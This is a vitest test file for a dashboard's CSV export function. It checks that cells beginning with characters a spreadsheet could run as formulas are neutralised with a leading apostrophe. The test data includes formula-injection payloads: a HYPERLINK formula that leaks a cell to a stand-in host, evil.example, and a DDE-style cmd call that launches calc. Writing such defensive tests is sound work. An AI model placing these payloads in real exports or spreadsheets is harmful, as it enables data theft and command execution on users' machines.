// CSV exports (src/dashboard/ui/csv.ts, used by every export): a text cell that a
// spreadsheet could run as a formula is neutralised whatever follows its first character,
// line breaks included (security review 2026-11-26, M5).
import { describe, expect, it } from "vitest";
import Papa from "papaparse";
import { toCsv } from "../../src/dashboard/ui/csv.ts";

const cells = async (values: (string | number)[]) => {
  const text = await toCsv(
    ["v"],
    values.map((v) => [v]),
  );
  return Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { delimiter: ";" })
    .data.slice(1)
    .filter((r) => r.length === 1 && r[0] !== "")
    .map((r) => r[0]);
};

describe("toCsv", () => {
  it("neutralises = + - @ tab and carriage return at the start of a cell, across line breaks", async () => {
    const dangerous = ['=HYPERLINK("https://evil.example/?leak="&C2,"Voir le dossier")\n', "@SUM(1+1)*cmd|' /C calc'!A0\n", "+33 1\nsuite", "-2+3\r\n", "\t=1+1\n", "\r=1+1"];
    expect(await cells(dangerous)).toEqual(dangerous.map((v) => `'${v}`));
  });

  it("leaves ordinary text and numbers as they are", async () => {
    expect(await cells(["Jean Dupont", "Réf. 2026\nligne 2", 135000, -5000, "a=b"])).toEqual(["Jean Dupont", "Réf. 2026\nligne 2", "135000", "-5000", "a=b"]);
  });
});
